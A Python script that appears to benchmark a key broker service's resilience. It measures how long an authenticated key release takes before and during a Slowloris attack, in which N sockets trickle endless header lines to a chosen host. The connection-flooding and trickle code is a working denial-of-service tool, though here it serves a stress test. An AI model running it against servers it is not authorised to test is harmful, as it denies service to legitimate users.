"""Slowloris against a server: the latency of a legitimate release while N
sockets trickle request headers (one header line a second, never ending).
  slowloris.py HOST PORT N TOKEN
Prints the median latency of 5 releases before the attack, and the median
and worst of 5 during it.  Figures only."""
import socket
import statistics
import sys
import threading
import time

host, port, n, token = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
PATH = "/kbs/v0/resource/default/key/bench"


def release():
    """Seconds for one GET on a new connection (None if it failed)."""
    t0 = time.monotonic()
    try:
        s = socket.create_connection((host, port), timeout=30)
        s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"
                   "Connection: close\r\n\r\n" % (PATH, host, token)).encode())
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        if not data.startswith(b"HTTP/1.1 200"):
            return None
    except OSError:
        return None
    return time.monotonic() - t0


def measure():
    got = [release() for _ in range(5)]
    ok = [x for x in got if x is not None]
    return ok, len(got) - len(ok)


before, failed0 = measure()
socks, stop = [], threading.Event()
for i in range(n):
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        socks.append(s)
    except OSError:
        break


def trickle():
    k = 0
    while not stop.is_set():
        for s in list(socks):
            try:
                s.sendall(b"X-Slow-%d: 1\r\n" % k)
            except OSError:
                socks.remove(s)
        k += 1
        stop.wait(1.0)


th = threading.Thread(target=trickle, daemon=True)
th.start()
time.sleep(2.5)
during, failed1 = measure()
open_now = len(socks)
stop.set()
for s in socks:
    s.close()
ms = lambda xs: statistics.median(xs) * 1e3 if xs else float("nan")
print("  %d slow sockets opened (%d still open after the attack's 2.5 s + "
      "requests)" % (n, open_now))
print("  release on a new connection: %.1f ms before, %.1f ms during "
      "(worst %.1f ms, %d failed) (goal: answered within 1 s)" %
      (ms(before), ms(during), max(during) * 1e3 if during else float("nan"),
       failed0 + failed1))
